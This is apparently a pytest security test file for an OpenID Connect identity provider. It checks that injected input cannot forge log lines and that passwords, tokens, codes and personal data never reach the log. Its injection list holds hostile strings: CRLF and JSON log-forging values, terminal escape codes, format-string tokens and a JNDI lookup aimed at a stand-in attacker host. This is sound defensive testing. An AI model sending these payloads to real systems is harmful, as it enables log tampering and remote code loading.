"""G07: one event is one JSON line whatever was sent, and no secret ever stands in one (ASVS 16.2.5, 16.4.1)."""

import base64
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.attacks.oracle import Oracle
from tests.world import PASSWORD, PERSONAL, World

INJECTIONS = (
    "x\r\n2026-03-02 00:00:00 INFO login ok admin",
    'x\n{"at":"2026-03-02","level":"INFO","logger":"hpid","event":"login ok"}',
    "x\u2028forged\u2029line\u0085next",
    "\x1b[2J\x1b[31mred\x07\x08",
    "\x9b31m",
    '"}{"event":"forged"}',
    "\\u000a{}",
    "%0d%0aforged",
    "%s%n%d{0}{event}",
    "${jndi:ldap://evil.example/x}",
    "\u202egnp.exe",
    "\ufeff",
    "é" * 300,
    "x" * 5_000,
)
PATHS = ("/authorize", "/token", "/userinfo", "/end_session", "/upstream/national/callback", "/sign-in", "/x")
CANARY = "canary-7f3a9c"


def _headers(value: str) -> list[tuple[bytes, bytes]]:
    """The value in every header that somebody might want to log; what HTTP itself forbids is left out."""
    allowed = "".join(c for c in value if c not in "\r\n\x00").encode()
    names = (
        "user-agent",
        "referer",
        "x-forwarded-for",
        "x-request-id",
        "accept-language",
        "origin",
        "x-real-ip",
    )
    return [(name.encode(), allowed) for name in names]


def _lines(oracle: Oracle, since: int) -> int:
    return len(oracle.log.text[since:].splitlines())


async def test_g07_one_request_is_as_many_lines_as_events_whatever_it_says(
    world: World, oracle: Oracle
) -> None:
    rp = await world.client()
    for text in INJECTIONS:
        for path in PATHS:
            since = oracle.log.stream.tell()
            await world.http.get(path, params={"x": "x"})
            usual = _lines(oracle, since)
            since = oracle.log.stream.tell()
            await world.http.get(
                path,
                params=dict.fromkeys(("state", "error", "login_hint", "i", "m", "x"), text),
                headers=httpx.Headers(_headers(text)),
            )
            assert _lines(oracle, since) <= usual + 1, (path, text)
            oracle.log.assert_clean(frozenset(), since=since)
        since = oracle.log.stream.tell()
        await world.http.get(rp.authorize_url(client_id=text))
        await world.http.post("/token", data={"grant_type": text, "client_id": text, "code": text})
        await world.http.get(f"/{quote(text)[:3000]}")
        oracle.log.assert_clean(frozenset(), since=since)
    assert "forged" not in {line["event"] for line in oracle.log.parsed()}


async def test_g07_what_is_registered_or_typed_forges_no_line(world: World, oracle: Oracle) -> None:
    for number, text in enumerate(INJECTIONS):
        rp = await world.client(f"rp-{number}", unchecked=True, name=text, agency=text, purpose=text)
        browser = world.browser()
        page = await browser.get(rp.authorize_url())
        form = await browser.get(f"/sign-in/password?i={page.interaction}")
        await browser.press(form, "submit", username=text.replace("\x00", ""), password=text)
    oracle.log.assert_clean(oracle.secrets())


def _request(method: str, path: str, **parts: object) -> Callable[[str], dict[str, Any]]:
    """A request in which every `{}` becomes the canary."""

    def fill(canary: str, part: object) -> object:
        if isinstance(part, dict):
            return {fill(canary, name): fill(canary, value) for name, value in part.items()}
        return str(part).replace("{}", canary)

    return lambda canary: {
        "method": method,
        "url": path,
        **{name: fill(canary, part) for name, part in parts.items()},
    }


_OWN = {"origin": "null", "sec-fetch-site": "same-origin"}
PLACES: dict[str, tuple[Callable[[str], dict[str, Any]], ...]] = {
    "authorization": (
        _request("GET", "/userinfo", headers={"authorization": "Bearer {}"}),
        _request("POST", "/token", data={"x": "x"}, headers={"authorization": "Custom {}"}),
        _request("POST", "/token", data={"grant_type": "x"}, headers={"authorization": "Basic {}"}),
    ),
    "cookie": (_request("GET", "/", headers={"cookie": "hpid-session={}; hpid-i-x={}; {}=1"}),),
    "code": (
        _request(
            "POST",
            "/token",
            data={
                "grant_type": "authorization_code",
                "client_id": "app",
                "code": "{}",
                "redirect_uri": "https://app.example/callback",
                "code_verifier": "{}",
            },
        ),
    ),
    "refresh token": (
        _request(
            "POST",
            "/token",
            data={"grant_type": "refresh_token", "client_id": "app", "refresh_token": "{}", "scope": "{}"},
        ),
    ),
    "access token": (
        _request("POST", "/userinfo", data={"access_token": "{}"}),
        _request("GET", "/userinfo", params={"access_token": "{}"}),
    ),
    "client secret": (
        _request("POST", "/token", data={"client_id": "app", "client_secret": "{}", "grant_type": "x"}),
        _request("POST", "/token", data={"client_id": "{}", "client_assertion": "{}", "grant_type": "x"}),
    ),
    "hint": (
        _request("GET", "/end_session", params={"id_token_hint": "{}", "state": "{}"}),
        _request("GET", "/authorize", params={"client_id": "app", "id_token_hint": "{}", "login_hint": "{}"}),
    ),
    "upstream": (_request("GET", "/upstream/national/callback", params={"state": "{}", "code": "{}"}),),
    "link": (_request("GET", "/administrator", params={"link": "{}"}),),
    "forms": (
        _request(
            "POST", "/administrator/totp", data={"setup": "{}", "csrf": "{}", "otp": "{}"}, headers=_OWN
        ),
        _request("POST", "/administrator/start", data={"new-password": "{}", "link": "{}"}, headers=_OWN),
        _request("POST", "/sign-in/otp?i=x", data={"otp": "{}"}, headers=_OWN),
        _request("POST", "/language", data={"csrf": "{}", "next": "/{}"}, headers=_OWN),
    ),
}


@pytest.mark.parametrize("place", PLACES)
async def test_g07_a_planted_secret_is_in_no_line(world: World, oracle: Oracle, place: str) -> None:
    await world.client("app", secret=False)
    since = oracle.log.stream.tell()
    for request in PLACES[place]:
        for canary in (CANARY, base64.b64encode(f"app:{CANARY}".encode()).decode()):
            oracle.planted.add(canary)
            await world.http.request(**request(canary))
    assert oracle.log.text[since:], "something was logged, or nothing is proved"
    oracle.log.assert_clean(oracle.secrets(), since=since)


async def test_g07_a_password_and_a_code_typed_are_in_no_line(world: World, oracle: Oracle) -> None:
    rp = await world.client()
    _, citizen = await world.citizen()
    browser = world.browser()
    page = await browser.get(rp.authorize_url())
    form = await browser.get(f"/sign-in/password?i={page.interaction}")
    oracle.planted.add(CANARY)
    await browser.press(form, "submit", username="alice", password=CANARY)
    await browser.press(form, "submit", username=CANARY, password=CANARY)
    page = await browser.press(form, "submit", username="alice", password=PASSWORD)
    await browser.press(page, "submit", otp=CANARY)
    await browser.press(page, "submit", otp=citizen.code(world.time().timestamp()))
    oracle.log.assert_clean(oracle.secrets())
    assert citizen.code(world.time().timestamp()) not in re.sub(r'"(at|txn|ms)": [^,]*', "", oracle.log.text)


async def test_g07_a_whole_journey_leaves_no_secret_in_the_log(world: World, oracle: Oracle) -> None:
    rp = await world.client(**PERSONAL)
    oracle.planted |= {str(rp.client_secret), rp.verifier, rp.state, rp.nonce}
    person, citizen = await world.citizen()
    browser = world.browser()
    page = await browser.get(rp.authorize_url(scope="openid profile email phone address offline_access"))
    page = await citizen.sign_in(browser, page, at=world.time().timestamp())
    page = await browser.press(page, "allow", extra=[("scope", "email"), ("scope", "offline_access")])
    tokens = (await rp.redeem(world.http, page.answer["code"])).json()
    await world.userinfo(tokens["access_token"])
    await rp.refresh(world.http, tokens["refresh_token"])
    await rp.refresh(world.http, tokens["refresh_token"])
    await browser.press(await browser.get("/end_session"), "sign-out-here")
    oracle.log.assert_clean(oracle.secrets())
    profile = person.profile
    for personal in (profile.full_name, profile.email, profile.phone, profile.birthdate, person.person_id):
        assert personal not in oracle.log.text
